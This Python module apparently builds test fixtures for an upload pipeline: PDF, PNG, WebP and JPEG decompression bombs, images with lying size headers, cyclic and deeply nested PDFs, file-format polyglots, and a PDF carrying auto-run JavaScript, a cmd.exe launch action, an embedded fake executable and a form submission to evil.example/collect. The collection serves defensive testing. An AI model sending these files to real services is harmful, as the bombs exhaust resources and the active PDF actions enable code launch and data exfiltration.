"""A hostile upload corpus, built in code: bombs, lying headers, nested and active PDFs, polyglots."""

from __future__ import annotations

import os
import struct
import zlib
from io import BytesIO

from PIL import Image

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>"


def raw_pdf(objects: list[bytes], trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A well-formed PDF from object bodies (object n is objects[n-1]); root is object 1."""
    out = BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref))
    return out.getvalue() + tail


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def one_page(
    catalog_extra: bytes = b"",
    page: bytes = PAGE,
    more: list[bytes] = (),
    content: bytes = b"BT /F1 12 Tf 72 720 Td (hello) Tj ET",
    tail: bytes = b"",
) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        stream(content),
        *more,
    ]
    return raw_pdf(objects, tail=tail)


def pdf_nested_arrays(depth: int = 5000) -> bytes:
    """Page boxes are fine, but the resources nest `depth` arrays (broke packet building)."""
    deep = b"[" * depth + b"]" * depth
    return one_page(page=PAGE.replace(b"/Resources << >>", b"/Resources << /X " + deep + b" >>"))


def pdf_cyclic_pages() -> bytes:
    """The page tree contains itself."""
    return raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", PAGE, stream(b"")]
    )


def pdf_javascript() -> bytes:
    """OpenAction JavaScript, a page /AA, a /Launch link, a URI, SubmitForm, an embedded exe, XFA."""
    page = PAGE[:-2] + b"/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R] >>"
    more = [
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",  # 5
        b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x.exe', nLaunch: 2}\\)) >>",  # 6
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>",  # 7
        b"<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /URI /URI (http://evil.example) >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 200 10 210] /FS 10 0 R >>",  # 9
        b"<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>",  # 10
        stream(b"MZ\x90\x00EVILEXECUTABLE" * 20, b"/Type /EmbeddedFile "),  # 11
        b"<< /Fields [] /XFA 13 0 R >>",  # 12
        stream(b"<xdp:xdp><script>evil()</script></xdp:xdp>"),  # 13
        b"<< /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(x.exe) 10 0 R] >> >>",  # 14
        b"<< /S /SubmitForm /F (http://evil.example/collect) >>",  # 15
    ]
    catalog = b"/OpenAction 5 0 R /AA << /WC 15 0 R >> /AcroForm 12 0 R /Names 14 0 R "
    return one_page(catalog, page=page, more=more)


def pdf_deflate_bomb(megabytes: int = 512) -> bytes:
    """A content stream that inflates to `megabytes` MB (a few hundred KB on disk)."""
    z = zlib.compressobj(9)
    chunk = b"\x00" * (1 << 20)
    body = b"".join(z.compress(chunk) for _ in range(megabytes)) + z.flush()
    more = [stream(body, b"/Filter /FlateDecode ")]
    page = PAGE.replace(b"/Contents 4 0 R", b"/Contents 5 0 R")
    return one_page(page=page, more=more)


def pdf_nested_flate(megabytes: int = 256) -> bytes:
    """Flate inside Flate: the outer layer is small and the inner one is a bomb."""
    z = zlib.compressobj(9)
    inner = b"".join(z.compress(b"\x00" * (1 << 20)) for _ in range(megabytes)) + z.flush()
    outer = zlib.compress(inner, 9)
    page = PAGE.replace(b"/Contents 4 0 R", b"/Contents 5 0 R")
    return one_page(page=page, more=[stream(outer, b"/Filter [/FlateDecode /FlateDecode] ")])


def pdf_many_pages(count: int = 10_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
    pages = [PAGE.replace(b"/Contents 4 0 R", b"/Contents 3 0 R") for _ in range(count)]
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            stream(b""),
            *pages,
        ]
    )


def pdf_zip_polyglot() -> bytes:
    """A valid PDF followed by a ZIP archive after %%EOF."""
    return one_page(tail=b"PK\x03\x04" + b"ZIPPAYLOAD" * 5000 + b"PK\x05\x06" + b"\x00" * 18)


def pdf_with_trailing_junk(megabytes: int = 19) -> bytes:
    return one_page(tail=os.urandom(megabytes << 20))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_declaring(width: int, height: int, colour: int = 6) -> bytes:
    """A tiny PNG whose header claims a huge RGBA image."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _chunk(b"IEND", b"")
    )


def png_bomb(side: int = 6300) -> bytes:
    """A real RGBA PNG of side×side (≈40 Mpx, 160 MB decoded) that is ~170 KB on disk."""
    z = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * (side * 4)
    body = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def webp_bomb(size: tuple[int, int] = (16383, 2441)) -> bytes:
    out = BytesIO()
    Image.new("RGBA", size, (255, 255, 255, 0)).save(out, format="WEBP", lossless=True)
    return out.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose SOF header is patched to claim width×height."""
    out = BytesIO()
    Image.new("RGB", (64, 64), "white").save(out, format="JPEG")
    data = bytearray(out.getvalue())
    i = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, i + 5, height, width)
    return bytes(data)


def jpeg_noise(size: tuple[int, int] = (4400, 3600), quality: int = 95) -> bytes:
    """A large noise JPEG (about 18 MB): heavy to decode at full scale."""
    out = BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, format="JPEG", quality=quality)
    return out.getvalue()


def png_noise(size: tuple[int, int]) -> bytes:
    out = BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, format="PNG", compress_level=1)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    out = BytesIO()
    Image.new("RGB", (800, 600), "white").save(out, format="JPEG")
    return out.getvalue() + b"PK\x03\x04" + b"ZIPPAYLOAD" * 500


def heaviest_album() -> list[bytes]:
    """The 10-file album that costs the intake the most: noise photos, bombs, active and deep PDFs."""
    return [
        jpeg_noise(),
        jpeg_noise(),
        jpeg_noise(),
        pdf_deflate_bomb(256),
        pdf_nested_flate(128),
        png_bomb(),
        webp_bomb(),
        pdf_javascript(),
        pdf_nested_arrays(),
        pdf_many_pages(),
    ]
